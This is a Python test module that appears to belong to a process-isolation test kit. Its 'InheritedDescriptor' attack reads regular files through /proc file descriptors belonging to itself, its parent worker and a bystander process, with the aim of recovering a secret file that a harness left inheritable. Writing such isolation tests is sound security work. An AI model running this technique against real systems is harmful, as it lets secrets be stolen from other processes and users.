"""Reads whatever an open descriptor leads to: its own, its parent's, a bystander's."""

from __future__ import annotations

import os
import stat

import targets
from kit import Attack


class InheritedDescriptor(Attack):
    """The harness left a descriptor of a secret file inheritable."""

    def ways(self):
        return {
            "own descriptors": lambda: self.read([f"/proc/self/fd/{n}" for n in range(3, 1024)]),
            "the worker's": lambda: self.all_of(os.getppid()),
            "a bystander's": lambda: self.all_of(targets.BYSTANDER),
        }

    def all_of(self, pid):
        folder = f"/proc/{pid}/fd"
        return self.read([f"{folder}/{name}" for name in os.listdir(folder)])

    def read(self, paths):
        found = b""
        for path in paths:
            try:
                if stat.S_ISREG(os.stat(path).st_mode):
                    with open(path, "rb") as file:
                        found += file.read(4096)
            except OSError:
                continue
        return found
